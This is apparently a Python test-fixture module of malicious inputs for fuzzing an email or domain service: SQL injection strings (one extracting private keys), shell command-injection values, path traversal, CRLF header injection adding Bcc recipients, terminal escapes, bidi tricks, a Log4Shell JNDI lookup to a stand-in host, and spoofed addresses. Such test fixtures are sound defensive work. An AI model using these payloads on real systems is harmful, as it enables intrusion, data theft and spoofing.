"""Texts that do harm where somebody is careless with them, and what may be said of them to a terminal."""

import unicodedata

FOR_DATABASES = [
    "'; DROP TABLE domains; --",
    '" OR 1=1 --',
    "x'||(SELECT private_key FROM domain_keys)||'",
    "%'; PRAGMA writable_schema=1; --",
]
FOR_SHELLS = ["; touch harmed", "$(touch harmed)", "`touch harmed`", "| touch harmed", "&& touch harmed", "x > harmed"]
FOR_FILES = ["../../../../harmed", "..\\..\\harmed", "/etc/passwd", "file:///etc/passwd", "~/harmed", "CON", "."]
FOR_LINES = [
    "x\r\nRCPT TO:<eve@stranger.test>",
    "x\r\nBcc: eve@stranger.test",
    "x\ny",
    "x\ry",
    "x\n",
    "x\u2028y",
    "x\u2029y",
    "x\u0085y",
]
FOR_TERMINALS = ["x\x1b[2J", "x\x1b]0;title\x07", "x\x08\x08y", "x\x7f", "x\u009b31m", "x\ty"]
FOR_READERS = [
    "x\u202egnp.exe",
    "x\u2066y\u2069",
    "x\u200fy",
    "x\u200ey",
    "x\u061cy",
    "x\u200by",
    "x\u2060y",
    "\ufeffx",
    "x\u00ady",
]
FOR_READERS += ["x\u200d\u200cy", "x\U000e0041\U000e0042", "Z\u0351\u036b\u0343a\u0327\u030al" + "\u0300" * 50]
FOR_FORMATS = [
    "%s%s%n%x",
    "{0}{name}",
    "\\(self)",
    "${jndi:ldap://stranger.test/x}",
    "&lt;<script>x</script>",
    '"], "x": ["',
]
OF_SIZES = [
    "",
    " ",
    "\u00a0",
    "x" * 63,
    "x" * 64,
    "x" * 65,
    "x" * 253,
    "x" * 255,
    "x" * 1_000,
    "x" * 10_000,
    "\u6c34" * 400,
]
NOT_UTF_8 = [b"x\xff\xfey", b"x\xc0\xafy", b"x\xed\xa0\x80y", b"x\xf4\x90\x80\x80y", b"x\xe6\xb0"]

ADDRESSES = [
    "user@[127.0.0.1]",
    "user@[IPv6:::1]",
    "user@127.0.0.1",
    "user@2130706433",
    "user%home.test@{domain}",
    "home.test!user@{domain}",
    "@first.test,@second.test:user@{domain}",
    "@first.test:user@{domain}",
    '"a b"@{domain}',
    '"a\\"b"@{domain}',
    '"a@b"@{domain}',
    '""@{domain}',
    '"x\\\r\n y"@{domain}',
    "a@b@{domain}",
    "<user@{domain}>",
    "user@{domain}>",
    "User Name <user@{domain}>",
    "user(comment)@{domain}",
    ".user@{domain}",
    "us..er@{domain}",
    "user.@{domain}",
    "user@",
    "@{domain}",
    "user@test",
    "user@{domain}.",
    "user@.{domain}",
    "user@-x.test",
    "user@x-.test",
    "user@x_y.test",
    "user@a..test",
    "user@xn--.test",
    "user@xn--a.test",
    "user@xn--zzzzzzzzzzzzzz.test",
    "user@{label}.test",
    "user@{long}.test",
    "zo\u00eb@{domain}",
    "zoe\u0308@{domain}",
    "\u7528\u6237@\u4f8b\u5b50.test",
    "user@b\u00fccher.test",
    "user@p\u0430ypal.test",
    "user@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.test",
    "user@stra\u00dfe.test",
    "user@\u2603.test",
    "user@x\u3002test",
    "user@x\u200d.test",
    "user@\u05d0b\u05d1.test",
    "user\u202e@{domain}",
    "us\u200ber@{domain}",
    "\u2126@{domain}",
    "SRS0=abcd=JR=stranger.test=eve@{domain}",
    "reply+aaaaaaaaaaaaaaaa@{domain}",
    "postmaster@{domain}",
    "a,b@{domain}",
    "a;b@{domain}",
]
"""Addresses of all kinds, good ones too. `{domain}` stands for a domain that is there."""


TEXTS = (FOR_DATABASES, FOR_SHELLS, FOR_FILES, FOR_LINES, FOR_TERMINALS, FOR_READERS, FOR_FORMATS, OF_SIZES, NOT_UTF_8)
"""All texts that are no addresses, by their kind: strings, and octets that are no UTF-8."""


def addresses(domain):
    """All addresses, at a domain that is there or elsewhere."""
    long = ".".join(["x" * 60] * 5)
    return [text.replace("{domain}", domain).replace("{label}", "x" * 64).replace("{long}", long) for text in ADDRESSES]


def some_of_all(random, domain, count=8):
    """A text of each kind, and so many addresses."""
    return [*map(random.choice, TEXTS), *random.sample(addresses(domain), count)]


def all_of_all(domain):
    """All texts and all addresses."""
    return [*(text for texts in TEXTS for text in texts), *addresses(domain)]


def active(text):
    """The characters of a text that do something to who looks at it: to a terminal, or to the order of writing."""
    return {
        f"U+{ord(character):04X}"
        for character in text
        if unicodedata.category(character) in ("Cc", "Zl", "Zp", "Cs")
        or unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        or character in "\u061c\u200e\u200f"
    }
